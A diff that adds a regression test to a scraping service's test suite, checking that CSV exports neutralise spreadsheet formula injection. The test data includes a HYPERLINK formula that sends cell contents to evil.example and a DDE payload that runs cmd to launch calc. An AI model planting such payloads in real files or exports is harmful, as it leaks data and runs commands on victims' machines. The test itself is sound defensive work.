@@ -86,6 +86,21 @@ test('a scrape_metadata job runs every item once; paged JSON, JSONL and CSV hold
   }
 })
 
+// Tried as an attacker would: a page title "=HYPERLINK(…)" went into the CSV export as is, and a spreadsheet
+// opening the export runs it as a formula (OWASP CSV injection).
+test('the CSV export neutralises cells that a spreadsheet would run as formulas; result_json stays exact', async () => {
+  const r = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items: [{ url: 'http://shop.example.com/formula', fields: ['title', 'description'] }, { url: 'http://shop.example.com/p/1', fields: ['title', 'description'] }] }, key)
+  assert.equal(r.status, 202, r.text)
+  await waitForJob(svc.url, r.json.data.id, key)
+  const csv = await (await fetch(`${svc.url}/v1/jobs/${r.json.data.id}/results?format=csv`, { headers: key })).text()
+  const rows = parse(csv, { columns: true }) as Record<string, string>[]
+  assert.equal(rows[0].title, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`)
+  assert.equal(rows[0].description, `'@SUM(1+1)*cmd|' /C calc'!A0`)
+  assert.equal(JSON.parse(rows[0].result_json).title, '=HYPERLINK("http://evil.example/?"&A1,"Click")')
+  assert.equal(rows[1].title, 'Page 1')
+  for (const row of rows) for (const [k, v] of Object.entries(row)) if (k !== 'result_json') assert.doesNotMatch(v, /^[=+\-@\t\r]/, k)
+})
+
 test('bad items refuse the whole job, naming each bad index; limits and unknown operations too', async () => {
   const r = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items: ['http://shop.example.com/p/1', 'ftp://x.example/', { fields: ['title'] }, 'http://shop.example.com/p/2', 42] }, key)
   assert.equal(r.status, 400, r.text)
